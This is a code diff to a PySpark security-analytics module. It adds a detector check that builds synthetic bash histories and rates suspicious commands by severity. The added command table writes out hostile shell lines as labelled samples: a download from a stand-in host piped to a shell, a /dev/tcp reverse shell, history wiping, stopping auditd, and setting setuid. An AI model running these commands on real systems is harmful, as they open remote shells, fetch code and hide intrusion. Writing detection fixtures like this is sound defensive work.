@@ -6,7 +6,7 @@ from pyspark.sql import DataFrame, SparkSession
 from pyspark.sql import functions as F
 
 from ..extract import logs
-from ..operators import blocks, byte_rules, clock, correlate, sessions, sigma_gates, votes
+from ..operators import blocks, byte_rules, clock, correlate, sessions, sigma_gates, tradecraft, votes
 from ..operators import timeline as tl
 from ..sources import collector
 from .catalog import query, table
@@ -249,3 +249,36 @@ def collector_artifacts(spark: SparkSession, sf_dir: str) -> DataFrame:
             total = F.sum(size.get(kind, F.col)(name)).cast("double")
             out = out.unionByName(t.agg(F.lit(artifact).alias("artifact"), F.lit(name).alias("name"), F.lit(kind).alias("type"), F.count(name).alias("n"), F.round(total, 2).alias("total")))
     return out
+
+
+# Commands by number, with what is to be said of them.
+COMMANDS = {
+    0: ("ls -la /home", "", ""),
+    1: ("curl -s http://x.example/a.sh -o a.sh", "LOW", "download"),
+    2: ("wget https://x.example/b -O- | /bin/sh", "HIGH", "download run by a shell"),
+    3: ("bash -i >& /dev/tcp/10.0.0.9/4444 0>&1", "CRITICAL", "shell over a network connection"),
+    4: ("/tmp/.x/run --quiet", "HIGH", "program run from a temporary folder"),
+    5: ("history -c && rm -f ~/.bash_history", "HIGH", "history cleared or switched off"),
+    6: ("systemctl stop auditd", "MEDIUM", "protection switched off"),
+    7: ("curl https://x.example/readme", "LOW", "download"),
+    8: ("vim /etc/hosts", "", ""),
+    9: ("chmod 4755 /usr/local/bin/x", "HIGH", "setuid put on a file"),
+}
+
+
+@query(f"""
+WITH c AS (SELECT * FROM (VALUES {", ".join(f"({i}, '{s}', '{w}')" for i, (_, s, w) in COMMANDS.items())}) v(i, severity, why)),
+h AS (SELECT 'u' || (user_id % 150) AS "user", severity, why, ts FROM events JOIN c ON (event_id * 7 + user_id) % 10 = i WHERE severity <> ''),
+r AS (SELECT *, CASE severity WHEN 'CRITICAL' THEN 0 WHEN 'HIGH' THEN 1 WHEN 'MEDIUM' THEN 2 ELSE 3 END AS rank FROM h)
+SELECT "user", arg_min(severity, rank) AS severity, 'Suspicious commands in shell history' AS title, count(*) AS "count", count(DISTINCT why) AS reasons, strftime(date_trunc('second', min(ts)), '%Y-%m-%d %H:%M:%S') AS first FROM r GROUP BY 1
+""")
+def history_findings(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """Commands and their time marks as bash writes them, one history for each user, read back and judged."""
+    user = F.format_string("u%d", F.col("user_id") % 150)
+    said = F.element_at(F.array(*(F.lit(c) for c, _, _ in COMMANDS.values())), ((F.col("event_id") * 7 + F.col("user_id")) % 10 + 1).cast("int"))
+    pair = F.posexplode(F.array(F.concat(F.lit("#"), F.unix_seconds(F.col("ts").cast("timestamp")).cast("string")), said)).alias("i", "line")
+    e = table(spark, sf_dir, "events").select(F.concat(F.lit("/home/"), user, F.lit("/.bash_history")).alias("path"), user.alias("u"), "event_id", pair)
+    homes = e.select(F.col("u").alias("user"), F.concat(F.lit("/home/"), "u").alias("home")).distinct()
+    history = logs.shell_history(e.select("path", (F.col("event_id") * 2 + F.col("i")).alias("line_no"), "line"), homes)
+    found = tradecraft.history_findings(history, ("user",))
+    return found.select("user", "severity", "title", "count", F.size("reasons").cast("long").alias("reasons"), F.date_format("first_utc", "yyyy-MM-dd HH:mm:ss").alias("first"))
